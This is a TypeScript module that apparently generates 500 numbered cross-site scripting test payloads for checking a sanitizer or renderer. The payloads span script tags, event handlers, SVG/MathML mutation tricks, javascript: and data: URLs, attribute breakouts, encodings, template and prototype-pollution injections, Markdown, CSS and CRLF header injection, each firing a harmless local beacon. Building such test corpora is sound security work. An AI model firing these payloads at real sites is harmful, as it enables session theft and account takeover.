/** Payloads that `payloads` answers. */
export const COUNT = 500

/** Where every payload that runs would leave its number: `window.xss`, `alert`, or a call to an address with this word. */
export const BEACON = 'xss-beacon'

type Make = (n: number) => string

/** What a payload tries to run. */
const entries: Make[] = [
  (n) => `xss(${n})`,
  (n) => `alert(${n})`,
  (n) => `fetch('/${BEACON}?${n}')`,
  (n) => `top['xs'+'s'](${n})`,
  (n) => `new Image().src='//127.0.0.1:9/${BEACON}?${n}'`,
]

/** Ways in, by family: `run` is a script, `n` the payload's number. Elements bear the attribute xss. */
const families: Record<string, ((run: string, n: number) => string)[]> = {
  'script elements': [
    (run) => `<script xss>${run}</script>`,
    (run) => `<ScRiPt xss>${run}</sCrIpT >`,
    (run) => `<script xss\n>${run}</script\t\n>`,
    (run) => `<scr<script xss>ipt>${run}</scr</script>ipt>`,
    (_run, n) => `<script xss src=//127.0.0.1:9/${BEACON}.js?${n}></script>`,
    (run) => `<script xss src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
    (run) => `<script xss type=module>${run}</script>`,
    (run) => `<script/xss/x>${run}</script>`,
    (run) => `<svg><script xss>${run}</script></svg>`,
    (run) => `<script xss nonce="">${run}</script>`,
  ],
  'event handlers': [
    (run) => `<img xss src=x onerror=${run}>`,
    (run) => `<img xss/src=x/onerror="${run}">`,
    (run) => `<IMG XSS SRC=x ONERROR=${run}>`,
    (run) => `<body xss onload=${run}>`,
    (run) => `<input xss autofocus onfocus=${run}>`,
    (run) => `<details xss open ontoggle=${run}>x</details>`,
    (run) => `<video xss><source onerror=${run}></video>`,
    (run) => `<audio xss src=x onerror=${run}></audio>`,
    (run) => `<marquee xss onstart=${run}>x</marquee>`,
    (run) => `<div xss style=animation-name:x onanimationstart=${run} onwebkitanimationend=${run}>x</div>`,
    (run) => `<a xss href=# onmouseover=${run} onfocus=${run} autofocus tabindex=1>x</a>`,
    (run) => `<select xss autofocus onfocus=${run}></select>`,
  ],
  'SVG and MathML': [
    (run) => `<svg xss onload=${run}>`,
    (run) => `<svg xss><animate onbegin=${run} attributeName=x dur=1s></svg>`,
    (run) =>
      `<svg xss><a><animate attributeName=href values="javascript:${run}"/><text x=9 y=9>x</text></a></svg>`,
    (run) => `<svg xss><set attributeName=onmouseover to="${run}" onbegin=${run}>`,
    (run) =>
      `<math xss><mtext><table><mglyph><style><!--</style><img xss title="--><img xss src=x onerror=${run}>">`,
    (run) => `<svg xss></p><style><a id="</style><img xss src=1 onerror=${run}>">`,
    (run) => `<math xss href="javascript:${run}">x</math>`,
    (run) =>
      `<svg xss><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
    (run) =>
      `<form xss><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img xss onerror=${run} src>">`,
    (run) => `<noscript><p title="</noscript><img xss src=x onerror=${run}>">`,
  ],
  addresses: [
    (run) => `javascript:${run}`,
    (run) => `JaVaScRiPt:${run}//`,
    (run) => `java\tscript:${run}`,
    (run) => `\u0001javascript:${run}`,
    (run) => `javascript://%0a${run}`,
    (run) => `data:text/html,<script xss>${run}</script>`,
    (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
    (run) => `<a xss href="javascript:${run}">x</a>`,
    (run) => `<iframe xss src="javascript:parent.${run}"></iframe>`,
    (run) => `<object xss data="javascript:${run}"></object><embed xss src="javascript:${run}">`,
    (run) => `<form xss action="javascript:${run}"><button formaction="javascript:${run}">x</button></form>`,
    (_run, n) => `<base xss href="//127.0.0.1:9/${BEACON}/${n}/">`,
    (run) => `<meta xss http-equiv=refresh content="0;url=javascript:${run}">`,
    (run) => `vbscript:${run}`,
  ],
  'breaking out': [
    (run) => `"><script xss>${run}</script>`,
    (run) => `'><img xss src=x onerror=${run}>`,
    (run) => `" onfocus="${run}" autofocus x="`,
    (run) => `' onmouseover='${run}' x='`,
    (run) => `</script><script xss>${run}</script>`,
    (run) => `</ScRiPt\t><svg xss onload=${run}>`,
    (run) => `</title><script xss>${run}</script>`,
    (run) => `</textarea><img xss src=x onerror=${run}>`,
    (run) => `</style><script xss>${run}</script>`,
    (run) => `--><script xss>${run}</script><!--`,
    (run) => `]]><script xss>${run}</script>`,
    (run) => `\\"});${run};({"x":"`,
    (run) => `";${run};//`,
    (run) => `\u2028${run}\u2029//`,
    (run) => `<!--<script>${run}</script>`,
  ],
  'entities and encodings': [
    (run) => `&lt;script xss&gt;${run}&lt;/script&gt;`,
    (run) => `&#60;img xss src=x onerror=${run}&#62;`,
    (run) => `&#x3c;svg xss onload=${run}&#x3e;`,
    (run) => `<a xss href="&#106;avascript:${run}">x</a>`,
    (run) => `%3Cscript%20xss%3E${encodeURIComponent(run)}%3C/script%3E`,
    (run) => `%253Cimg%2520xss%2520onerror=${run}%253E`,
    (run) => `\\u003cscript xss\\u003e${run}\\u003c/script\\u003e`,
    (run) => `\\x3cimg xss src=x onerror=${run}\\x3e`,
    (run) => `+ADw-script xss+AD4-${run}+ADw-/script+AD4-`,
    (run) => `&lt&#59;img xss src=x onerror=${run}&gt&#59;`,
  ],
  templates: [
    (run) => `{{constructor.constructor('${run.replaceAll("'", '`')}')()}}`,
    (run) => `\${${run}}`,
    (run) => `#{${run}}<%= ${run} %>`,
    (run) => `[[\${${run}}]]{%${run}%}`,
    (run) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img xss src=x onerror=${run}>"}}}`,
    (run) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${run}"}}`,
  ],
  'signs of other scripts': [
    (run) => `＜script xss＞${run}＜/script＞`,
    (run) => `\u202e<img xss src=x onerror=${run}>`,
    (run) => `<\u0130mg xss src=x onerror=${run}>`,
    (run) => `\ufeff<script xss>${run}</script>`,
    (run) => `<s\u0301cript xss>${run}</s\u0301cript>`,
    (run) => `ọ̀<ſcript xss>${run}</ſcript>`,
    (run) => `<img\u000bxss\u000csrc=x\u00a0onerror=${run}>`,
    (run) => `\ud83d\ude08<svg xss onload=${run}>`,
  ],
  Markdown: [
    (run) => `[x](javascript:${run})`,
    (run) => `[x](<javascript:${run}>)`,
    (run) => `[x](data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')})`,
    (run) => `![x](x"onerror="${run})`,
    (run) => `[x](x "onmouseover=${run} ")`,
    (run) => `<javascript:${run}>`,
    (run) => `[x]: javascript:${run}\n[x]`,
    (run) => `\`\`\`"><img xss src=x onerror=${run}>\n<script xss>${run}</script>\n\`\`\``,
    (run) => `|<img xss src=x onerror=${run}>|\n|:-"onclick=${run}|`,
    (_run, n) => `![x](//127.0.0.1:9/${BEACON}?${n})`,
    (run) => `# <svg xss onload=${run}>`,
  ],
  styles: [
    (run) => `<style xss>*{background:url("javascript:${run}")}</style>`,
    (_run, n) => `<style xss>@import "//127.0.0.1:9/${BEACON}?${n}"</style>`,
    (_run, n) => `<link xss rel=stylesheet href=//127.0.0.1:9/${BEACON}?${n}>`,
    (_run, n) => `red;background:url(//127.0.0.1:9/${BEACON}?${n})`,
    (run) => `x:expression(${run})`,
    (_run, n) => `}*{background:url(//127.0.0.1:9/${BEACON}?${n})}`,
  ],
  'line ends and length': [
    (run) => `x\r\nContent-Type: text/html\r\n\r\n<script xss>${run}</script>`,
    (run) => `x\r\nSet-Cookie: xss=1\r\n<img xss src=x onerror=${run}>`,
    (run) => `x\n<script xss>\n${run}\n</script>`,
    (run) => `${'A'.repeat(600)}<script xss>${run}</script>`,
    (run) => `${'<b>'.repeat(120)}<img xss src=x onerror=${run}>`,
    (run) => `<img xss src=x ${'x '.repeat(200)}onerror=${run}>`,
  ],
}

/** The payloads, each with a number of its own: every way in with one deed, then with the next, until there are enough. */
export const payloads: readonly string[] = entries
  .flatMap((auditEntry) =>
    Object.values(families)
      .flat()
      .map((make) => ({ auditEntry, make })),
  )
  .slice(0, COUNT)
  .map(({ auditEntry, make }, n) => `${make(auditEntry(n), n)}~${n}~`)

/** The payload `n` places further on. */
export const payloadAt = (n: number): string => payloads[n % payloads.length] ?? ''
